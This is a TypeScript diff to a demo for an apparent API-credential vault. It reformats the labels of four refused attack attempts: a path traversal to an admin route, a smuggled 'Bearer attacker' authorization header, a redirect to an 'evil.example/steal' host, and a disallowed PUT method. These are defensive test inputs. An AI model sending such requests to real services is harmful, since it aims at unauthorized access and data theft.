@@ -109,21 +109,23 @@ export async function runDemo(log: (line: string) => void): Promise<DemoResult> 
       const {envelope, context} = await parseInvocation(vault, {envelope: raw, context: {consumer: 'demo'}})
       return invoke({vault, registry, env, mode: vault.mode}, envelope, {context})
     }
-    const attempts: Array<[string, () => Promise<unknown>]> = [
-      ['path traversal  --path /v1/chat/completions/../../admin', () => attempt({capability: 'openai/chat-completions', request: {method: 'POST', path: '/v1/chat/completions/../../admin'}})],
-      ['smuggled header -H authorization="Bearer attacker"', () => attempt({capability: 'openai/chat-completions', request: {method: 'POST', headers: [{name: 'authorization', value: 'Bearer attacker'}]}})],
-      ['another host    --request \'{"url": "https://evil.example/steal"}\'', () => attempt({capability: 'openai/chat-completions', request: {url: 'https://evil.example/steal'}})],
-      ['wrong method    --method PUT on openai/models', () => attempt({capability: 'openai/models', request: {method: 'PUT', path: '/v1/models'}})],
+    // [what, how, run]: the human line pads `what` into a column; JSON gets plain single-spaced text.
+    const attempts: Array<[string, string, () => Promise<unknown>]> = [
+      ['path traversal', '--path /v1/chat/completions/../../admin', () => attempt({capability: 'openai/chat-completions', request: {method: 'POST', path: '/v1/chat/completions/../../admin'}})],
+      ['smuggled header', '-H authorization="Bearer attacker"', () => attempt({capability: 'openai/chat-completions', request: {method: 'POST', headers: [{name: 'authorization', value: 'Bearer attacker'}]}})],
+      ['another host', '--request \'{"url": "https://evil.example/steal"}\'', () => attempt({capability: 'openai/chat-completions', request: {url: 'https://evil.example/steal'}})],
+      ['wrong method', '--method PUT on openai/models', () => attempt({capability: 'openai/models', request: {method: 'PUT', path: '/v1/models'}})],
     ]
     const before = upstream.seen.length
-    for (const [label, run] of attempts) {
+    for (const [what, how, run] of attempts) {
+      const label = `${what} ${how}`
       try {
         await run()
         refused.push({attempt: label, code: 'not refused'})
       } catch (error) {
         if (!(error instanceof AivaultError)) throw error
         refused.push({attempt: label, code: error.code})
-        log(`   ${label}\n     -> ${error.code}: ${error.message}`)
+        log(`   ${what.padEnd(15)} ${how}\n     -> ${error.code}: ${error.message}`)
       }
     }
     log(`   requests that reached the API: ${upstream.seen.length - before}\n`)
